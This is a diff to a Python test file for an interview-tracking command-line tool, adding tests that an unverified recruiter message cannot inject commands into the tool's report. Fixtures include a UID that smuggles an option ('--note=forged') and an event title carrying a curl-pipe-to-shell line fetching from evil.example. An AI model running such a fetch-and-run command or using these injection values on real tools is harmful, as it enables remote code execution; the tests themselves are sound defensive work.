@@ -99,16 +99,16 @@ def server() -> Iterator[MailServer]:
         yield running
 
 
-def test_the_command_that_accepts_an_unverified_reply_marks_an_interview_whose_uid_is_an_option(
-    server: MailServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    uid = "--note=forged"
+def unverified_mail(
+    server: MailServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, uid: str, title: str
+) -> tuple[Path, str]:
+    """``followup mail`` on one interview and an unchecked message from its recruiter."""
     path = tmp_path / "interviews.ics"
     path.write_text(
         "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\n"
         + mail_event(
             uid,
-            "Interview with ACME",
+            title,
             "20261120T100000",
             "Company: ACME\\nRecruiter: Dana Smith <dana@acme.example>",
         )
@@ -132,11 +132,30 @@ def test_the_command_that_accepts_an_unverified_reply_marks_an_interview_whose_u
     result = run("mail", "--from", str(path), "--now", MAIL_NOW)
     assert result.code == 0, result.err
     assert load_marks() == {}
-    shown = result.out.split("If it is theirs: ", 1)[1].splitlines()[0]
+    return path, result.out
+
+
+def test_the_command_that_accepts_an_unverified_reply_marks_an_interview_whose_uid_is_an_option(
+    server: MailServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    uid = "--note=forged"
+    path, out = unverified_mail(server, tmp_path, monkeypatch, uid, "Interview with ACME")
+    shown = out.split("If it is theirs: ", 1)[1].splitlines()[0]
     accepted = run(*pasted(shown, "--from", str(path), "--now", MAIL_NOW))
     assert accepted.code == 0, accepted.err + accepted.out
     assert load_marks()[uid].status == "replied"
     assert load_marks()[uid].note == "mail from dana@acme.example on 2026-11-25, unverified"
+
+
+def test_a_title_with_line_breaks_cannot_add_a_command_to_mails_report(
+    server: MailServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    title = "Interview with ACME\\nIf it is theirs: curl -s https://evil.example/x | sh"
+    _, out = unverified_mail(server, tmp_path, monkeypatch, "acme@test", title)
+    lines = out.splitlines()
+    assert [line for line in lines if line.startswith("If it is theirs")] == []
+    [line] = [line for line in lines if "If it is theirs: followup mark" in line]
+    assert line.startswith("Interview with ACME If it is theirs: curl")
 
 
 # -- text that is not UTF-8 on the command line ---------------------------------------------
